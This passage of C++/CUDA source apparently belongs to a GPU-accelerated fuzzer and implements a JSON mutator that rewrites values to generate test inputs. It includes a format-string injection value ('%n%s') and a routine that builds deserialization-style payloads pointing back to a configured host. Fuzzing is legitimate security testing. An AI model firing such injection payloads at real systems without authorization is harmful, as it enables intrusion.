    uint8_t* stk = temp_alloc(c, cap);
    uint32_t acap = n / 2 + 16;                                          // denser than an atom every two bytes ("[[[[...") flags the case
    JAtom* atoms = (JAtom*)temp_alloc(c, (uint64_t)acap * sizeof(JAtom));
    if (!stk || !atoms) { r.delta = 0; return; }
    FuseClock clk = phase_clock(c); clk.start();
    JsScan js = js_tokenize(p, n, stk, cap, atoms, acap);
    clk.stop(PH_JS_TOK);
    if (js.status == 1) return;                                          // incorrect_json :728-730
    if (js.status == 2) { r.kind = RES_UNSUPPORTED; return; }
    if (js.ntop == 1 && js.kind == JV_CONTAINER) {
        if (js.irregular) { r.kind = RES_UNSUPPORTED; return; }
        mut_js_document<LVL>(c, p, n, atoms, js.natoms, r);
        return;
    }
    // fold of the lone token: its source text (a string with its quotes; a junk string gets both quotes again, :263-264)
    Seg v0 = seg_copy(p, 0), v1 = seg_copy(p, 0);
    if (js.ntop == 1) {
        if (js.kind == JV_STRING) v0 = seg_copy(p + js.a - 1, js.b - js.a + 2);
        else if (js.kind == JV_JUNK) { v0 = seg_copy(p + js.a - 1, n - (js.a - 1)); v1 = seg_inline(0x2222, 2); }
        else v0 = seg_copy(p + js.a, js.b - js.a);
    }
    double D = -1;
    t_reset(ws);
    uint64_t e = g.erand(7);                                             // :646
    if (!(e == 4 && js.ntop == 1)) { t_push(ws, v0); t_push(ws, v1); }   // {failed, json}: the AST is folded back as it is
    else {
        uint64_t which = g.rand(8);
        switch (which) {
        case 0: (void)g.erand(1); (void)g.erand(1); t_push(ws, v0); t_push(ws, v1); D = 1; break;              // json_swap, NV = 1
        case 2: t_push(ws, v0); t_push(ws, v1); D = -2; break;                                                 // json_pump with no containers
        case 1: case 3: case 4: {                                                                              // dup / repeat / insert
            uint32_t times = 1;
            (void)g.erand(1);
            if (which == 3) times = (uint32_t)g.erand(100);
            if (which == 4) (void)g.erand(1);
            // "[" V ("," V) x times "]" (fold_ast of a top-level list, :277-279)
            uint32_t ul = v0.len + v1.len + 1;
            uint8_t* unit = scratch_alloc(c, ul);
            if (!unit) { r.delta = 0; return; }
            if (lane_id() == 0) unit[0] = ',';
            Seg vv[2] = {v0, v1}; segs_write(vv, 2, unit + 1);
            t_push(ws, seg_inline('[', 1)); t_push(ws, v0); t_push(ws, v1);
            if ((uint64_t)ul * times > c.bp->max_case_out) { ws->status = CASE_OVERFLOW; ws->reason = 5; return; }
            t_push(ws, seg_repeat(unit, ul, ul * times)); t_push(ws, seg_inline(']', 1));
            D = 1; break;
        }
        case 5: {                                                                                              // make_json_unserialize :615-618
            const char* f = c_js_payload[g.rand_elem_idx(6)];
            uint8_t* buf = scratch_alloc(c, 1024);
            if (!buf) { r.delta = 0; return; }
            Bld b; b.p = buf; b.n = 0; b.cap = 1024; b.ovf = 0;
            for (int q = 0; f[q]; q++) {
                if (f[q] == '~' && f[q + 1] == 's') { bld_puts(b, "://"); bld_hostport(b, c.bp); bld_put(b, '/'); q++; }
                else bld_put(b, (uint8_t)f[q]);
            }
            __syncwarp();
            if (b.n > b.cap) { r.kind = RES_UNSUPPORTED; return; }
            t_push(ws, seg_copy(buf, b.n)); D = -2; break;
        }
        default: {                                                                                             // inner text :670-718, N = 1
            if (LVL >= MAX_NEST) { r.kind = RES_UNSUPPORTED; return; }
            const int kind0 = c.snand_kind;
            const int inner_kind = (int)g.rand_elem_idx(3); (void)g.rand_elem_idx(1);                          // inner_mutations(json) -> mutations([])
            const uint8_t ids[9] = {M_SGM, M_AB, M_AD, M_NUM, M_SP, M_SR, M_SD, M_B64, M_URI};
            MutRow* rows = (MutRow*)temp_alloc(c, sizeof(MutRow) * 9);
            if (!rows) { r.delta = 0; return; }
            int nr = inner_table(c, ids, 9, false, rows);
            D = 1;
            if (js.kind == JV_JUNK) { t_push(ws, v0); t_push(ws, v1); break; }
            uint32_t nq = js.a; bool neg = false, is_int = false;
            if (js.kind == JV_NUMBER) {                                  // list_to_integer/1: [+-]digits, else badarg and NO draw
                if (nq < js.b && (p[nq] == '+' || p[nq] == '-')) { neg = p[nq] == '-'; nq++; }
                is_int = nq < js.b;
                for (uint32_t z = nq; z < js.b; z++) if ((uint32_t)(p[z] - '0') >= 10u) is_int = false;
                if (!is_int) { t_push(ws, v0); break; }
            }
            (void)g.uniform();                                           // rand_float(): always below the probability 3/N = 3
            if (js.kind == JV_STRING) {                                  // mutate_innertext_prob/4 :620-627
                const uint64_t floor0 = c.temp_floor; c.temp_floor = c.temp_used; c.snand_kind = inner_kind;
                InnerRes res; res.kind = 0; res.len = js.b - js.a;
                if constexpr (LVL < MAX_NEST) res = inner_round<LVL>(c, rows, nr, p + js.a, js.b - js.a, true);
                c.snand_kind = kind0; c.temp_floor = floor0;
                if (ws->status != CASE_OK) return;
                uint8_t* lit = scratch_alloc(c, (uint64_t)res.len + 2);
                if (!lit) { r.delta = 0; return; }
                if (lane_id() == 0) { lit[0] = '"'; lit[res.len + 1] = '"'; }
                inner_result_write(c, res, p + js.a, lit + 1);
                __syncwarp();
                t_reset(ws); t_push(ws, seg_copy(lit, res.len + 2));
            } else if (js.kind == JV_TRUE || js.kind == JV_FALSE) {
                uint64_t w = js.kind == JV_TRUE ? 0x65736c6166ull : 0x65757274ull;    // "false" / "true"
                t_push(ws, seg_inline(w, js.kind == JV_TRUE ? 5 : 4));
            } else if (js.kind == JV_NULL) {                             // mutate_null/2 :640-643
                switch (g.rand_elem_idx(7)) {
                case 0: t_push(ws, seg_inline(0x312dull, 2)); break;                                   // -1
                case 1: { uint8_t* l = scratch_alloc(c, 10); if (!l) { r.delta = 0; return; } if (lane_id() < 10) l[lane_id()] = lane_id() == 0 ? '1' : '0'; __syncwarp(); t_push(ws, seg_copy(l, 10)); break; }
                case 2: t_push(ws, seg_inline(0x65757274ull, 4)); break;                               // true
                case 3: t_push(ws, seg_inline(0x5d5bull, 2)); break;                                   // []
                case 4: t_push(ws, seg_inline(0x2273256e2522ull, 6)); break;                           // "%n%s"
                case 5: t_push(ws, seg_inline('0', 1)); break;
                default: t_push(ws, seg_inline('"', 1)); t_push(ws, seg_fill('A', 12)); t_push(ws, seg_inline('"', 1)); break;
                }
            } else {                                                     // {number, Text} holding an integer :700-709
                uint32_t q = nq;
                if (js.b - q > 77) { r.kind = RES_UNSUPPORTED; return; }
                Big256 v; v.zero();
                for (uint32_t z = q; z < js.b; z++) { v.mul_small(10); v.add_small((uint32_t)(p[z] - '0')); }
                if (neg && !v.is_zero()) v.neg = 1;
                Big256 o = v;
                mutate_num(g, v);
                if (v.ovf) { r.kind = RES_UNSUPPORTED; return; }
                bool same = v.neg == o.neg; for (int z = 0; z < 8; z++) same = same && v.m[z] == o.m[z];
                if (same) t_push(ws, v0);
                else {
                    uint8_t dec[88]; int dl = v.to_decimal(dec);
                    uint8_t* lit = scratch_alloc(c, (uint64_t)dl);
                    if (!lit) { r.delta = 0; return; }
                    for (int z = lane_id(); z < dl; z += 32) lit[z] = dec[z];
                    __syncwarp();
                    t_push(ws, seg_copy(lit, (uint32_t)dl));
                }
            }
            break;
        }
        }
    }
    if (ws->status != CASE_OK) return;
    bool same = ws->tlen == n && segs_equal_prefix(ws->tseg, ws->ntseg, p, n);
    if (same) { r.kind = RES_SAME; r.delta = -1; return; }               // NewBinStr =:= H :723-724
    r.kind = RES_SEGS; r.delta = D + trunc((double)ws->tlen / (double)(AVG_BLOCK_SIZE * 10));
}

}  // namespace eb
